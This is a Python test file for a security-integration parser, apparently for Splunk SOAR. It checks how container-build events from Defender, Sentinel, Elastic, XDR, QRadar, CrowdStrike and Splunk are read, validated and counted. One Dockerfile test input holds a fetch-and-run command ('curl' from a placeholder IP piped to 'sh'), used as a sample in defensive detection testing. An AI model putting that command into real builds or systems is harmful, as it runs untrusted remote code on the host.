"""What users hand over becomes events, and what is none is counted; nothing else is raised."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from splunk_soar.src import rows, shapes
from splunk_soar.src.shapes import ShapeError, handed_over

from t1612core import summarise
from t1612core.summary import Summary

from .events import BUILD, DEPLOY, EGRESS, QUIET, Event

VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=6),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["results", "cef", "tables", "columns", "rows", "name", "data", "a"])
            | st.sampled_from(["process", "cmdLine", "dest_ip", "ProcessCommandLine", "_raw"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=20,
)


@settings(deadline=None)  # a busy machine says nothing of it
@given(st.text() | VALUES.map(json.dumps) | VALUES.map(str))
def test_any_text_is_read_and_all_of_it_is_counted(text: str) -> None:
    summary = summarise([handed_over(text)])

    assert summary.events == summary.account.used + summary.skipped
    assert summary.skipped == sum(count for _, count in summary.reasons)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("[{'a': None}, {'a': True}]", [{"a": None}, {"a": True}]),
        (" {'a': 1}", {"a": 1}),
        ("['x']", ["x"]),
        ("{'a': open('x')}", "{'a': open('x')}"),
        ('[{"a": 1}]', '[{"a": 1}]'),
        ("it's", "it's"),
        ("", ""),
    ],
)
def test_what_a_format_block_makes_of_objects_is_read(text: str, value: Any) -> None:
    assert handed_over(text) == value


def test_a_long_text_in_pythons_notation_is_refused_with_the_way_out() -> None:
    with pytest.raises(ShapeError, match="no more than 1,048,576 characters are read"):
        handed_over("[{'a': '" + "x" * (1 << 20) + "'}]")


def test_text_of_a_parameter() -> None:
    assert shapes.as_text("x") == "x"
    assert shapes.as_text(None) is None
    assert shapes.as_text({"a": {1}}) == '{"a": "{1}"}'


def test_boxes_become_rows() -> None:
    line = "'/opt/my tools/docker' build ."
    assert rows.process_row(line, "", "", "", "")["FileName"] == "docker"
    assert rows.process_row(line, "x", "", "", "")["FileName"] == "x"
    assert rows.file_row("/tmp/Dockerfile", "", "h") == {
        "Type": "DeviceFileEvents",
        "FileName": "Dockerfile",
        "FolderPath": "/tmp/Dockerfile",
        "DeviceName": "h",
    }


@pytest.mark.parametrize(
    ("made", "said"),
    [
        (lambda: rows.process_row(" \n", "", "", "", ""), "command_line is empty"),
        (lambda: rows.file_row("/dev/shm/x/", "", ""), "file_path is a folder"),
        (lambda: rows.file_row(" ", " ", ""), "file_path is a folder"),
        *(
            (lambda ip=ip: rows.network_row(ip, "", 443, "dockerd", ""), "it is an IP address")
            for ip in ("files.example.net", "http://203.0.113.7/x", "203.0.113.7:443", " ")
        ),
    ],
)
def test_a_box_that_says_nothing_is_told(made: Callable[[], Event], said: str) -> None:
    with pytest.raises(ShapeError, match=said):
        made()


def test_an_address_may_be_of_any_kind() -> None:
    for ip in ("203.0.113.7", " 2001:db8::1 ", "fe80::1%eth0"):
        assert rows.network_row(ip, "", 443, "dockerd", "")["RemoteIP"] == ip.strip()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (" \n", "is empty"),
        ("FROM alpine\0", "is no text"),
        ("FROM alpine\\nRUN curl http://203.0.113.7/x | sh\\n", "line ends spelled"),
        ("<html><body>Sign in</body></html>", "something else"),
        (json.dumps({"content": "FROM alpine\nRUN x"}, indent=1), "something else"),
        ("RlJPTSBhbHBpbmUKUlVOIHgK\n", "something else"),
        ("hello world\n", "something else"),
    ],
)
def test_what_is_no_dockerfile_is_told(content: str, said: str) -> None:
    with pytest.raises(ShapeError, match=said):
        shapes.checked_dockerfile(content)


def test_a_dockerfile_and_a_part_of_one_are_taken() -> None:
    for content in (
        "FROM alpine",
        "run true\n",
        "# x\nARG A=1\r\nFROM $A\r\n",
        "FROM a\nRUN b\\nc",
    ):
        assert shapes.checked_dockerfile(content) == content


def test_the_platforms_document_has_texts_and_is_else_as_it_is() -> None:
    document = {"action": "x", "parameters": [{"a": [BUILD], "b": "[]", "c": 7, "d": None}]}
    made = json.loads(shapes.with_texts(json.dumps(document)))

    assert made == {
        "action": "x",
        "parameters": [{"a": json.dumps([BUILD]), "b": "[]", "c": 7, "d": None}],
    }
    for text in ("", "[" * 100_000, "7", "{}", '{"parameters": 7}', '{"parameters": [7]}'):
        assert shapes.with_texts(text) == text


# --- What neighbouring integrations give, as they give it ---

LINE = BUILD["ProcessCommandLine"]
ECS: Event = {
    "@timestamp": "2026-03-02T08:06:43Z",
    "event": {"category": ["process"], "type": ["start"]},
    "host": {"name": "web-prod-07"},
    "user": {"name": "root"},
    "process": {"name": "docker", "command_line": LINE, "parent": {"name": "bash"}},
}
XDR: Event = {
    "_time": 1772438803000,
    "agent_hostname": "web-prod-07",
    "event_type": "ENUM.PROCESS",
    "actor_process_image_name": "bash",
    "action_process_image_name": "docker",
    "action_process_image_command_line": LINE,
}
CIM: Event = {
    "_time": "2026-03-02T08:06:43Z",
    "dest": "web-prod-07",
    "user": "root",
    "process_name": "docker",
    "process": LINE,
    "parent_process_name": "bash",
}
QRADAR: Event = {
    "starttime": 1772438803000,
    "Machine Identifier": "web-prod-07",
    "username": "root",
    "Process Path": "/usr/bin/docker",
    "Command": LINE,
    "Parent Process Name": "bash",
}
BEHAVIOUR: Event = {
    "filename": "docker",
    "cmdline": LINE,
    "user_name": "root",
    "parent_details": {"parent_cmdline": "bash"},
}
NEIGHBOURS: dict[str, Any] = {
    "Azure Log Analytics: tables": {
        "tables": [
            {
                "name": "PrimaryResult",
                "columns": [{"name": key, "type": "string"} for key in BUILD],
                "rows": [list(BUILD.values())],
            }
        ]
    },
    "Sentinel run query": [{**BUILD, "SentinelTableName": "PrimaryResult"}],
    "Defender run query": [BUILD],
    "Defender advanced hunting": {"Schema": [], "Results": [BUILD]},
    "Graph hunting query": {"schema": [{"name": "FileName"}], "results": [BUILD]},
    "Elasticsearch hits": {"took": 3, "hits": {"total": {"value": 1}, "hits": [{"_source": ECS}]}},
    "XDR XQL": {"reply": {"status": "SUCCESS", "results": {"data": [XDR]}}},
    "XDR alerts": [{"alert_id": "1", "host_name": "web-prod-07", **XDR}],
    "Splunk CIM": [CIM],
    "Splunk search": {"results": [{**CIM, "sourcetype": "x", "_raw": "x"}], "preview": False},
    "QRadar": {"events": [QRADAR]},
    "CrowdStrike alerts": [
        {**BEHAVIOUR, "composite_id": "1", "device": {"hostname": "web-prod-07"}}
    ],
    "CrowdStrike detections": [{"device": {"hostname": "web-prod-07"}, "behaviors": [BEHAVIOUR]}],
    "CrowdStrike on poll": [
        {"id": 4, "cef": {"cmdLine": LINE, "fileName": "docker", "sourceHostName": "web-prod-07"}}
    ],
    "artifacts of CEF": [
        {
            "id": 42,
            "cef": {
                "deviceHostname": "web-prod-07",
                "process": LINE,
                "sourceProcessName": "bash",
                "startTime": 1772438803000,
            },
        }
    ],
    "Splunk, the event in its text": [
        {"_raw": json.dumps(BUILD), "_time": 1772438803, "host": "fwd", "sourcetype": "ms:defender"}
    ],
    "Defender, named queries": {"persistence": {"scheduled_job": []}, "process_details": [BUILD]},
    "Defender, a named query": {"query": "x", "results": {"process": [BUILD]}},
    "CrowdStrike, alerts in a list": {
        "alerts": [
            {
                "cmdline": LINE,
                "filename": "docker",
                "user_name": "root",
                "product": "epp",
                "device": {"hostname": "web-prod-07"},
                "timestamp": "2026-03-02T08:06:43Z",
                "parent_details": {"cmdline": "bash", "filename": "bash"},
            }
        ],
    },
    "CrowdStrike.Detection": {
        "DetectionID": "ldt:1",
        "System": "web-prod-07",
        "Behavior": [{"FileName": "docker", "CommandLine": LINE, "UserName": "root"}],
    },
    "texts in a list": [json.dumps(BUILD), json.dumps(QUIET)],
    "collect2": [[BUILD], [json.dumps(QUIET)]],
    "CSV": ",".join(BUILD) + "\n" + ",".join(f'"{each}"' for each in BUILD.values()) + "\n",
}


def read(value: Any) -> Summary:
    return summarise([handed_over(shapes.as_text(value))])


@pytest.mark.parametrize("name", NEIGHBOURS)
def test_what_a_neighbour_gives_is_read_whole(name: str) -> None:
    summary = read(NEIGHBOURS[name])

    assert (summary.skipped, summary.findings) == (0, 1), summary.warning
    assert (summary.host, summary.places[0].finding.detail) == ("web-prod-07", LINE)


@pytest.mark.parametrize("key", ["results", "Results", "records", "value", "data", "tables", "cef"])
@pytest.mark.parametrize("held", [[], [7, None], [{"a": 1}], {}, {"a": 1}, "x", None], ids=str)
def test_what_an_event_holds_besides_swallows_nothing(key: str, held: Any) -> None:
    for event in (
        BUILD,
        CIM,
        {"category": "AdvancedHunting-DeviceProcessEvents", "properties": BUILD},
    ):
        summary = read({**event, key: held})
        assert (summary.events, summary.findings) == (1, 1)


def test_all_that_an_answer_holds_is_read() -> None:
    for answer in (
        {"results": [], "value": [BUILD], "data": [DEPLOY]},
        {"count": 2, "data": [[BUILD], DEPLOY]},
    ):
        assert (read(answer).events, read(answer).skipped) == (2, 0)
    table = {"columns": [{"name": "FileName"}, {"name": "FolderPath"}], "rows": [["Dockerfile"]]}
    summary = read([{"tables": [table]}, EGRESS])
    assert (summary.events, summary.skipped) == (2, 1)
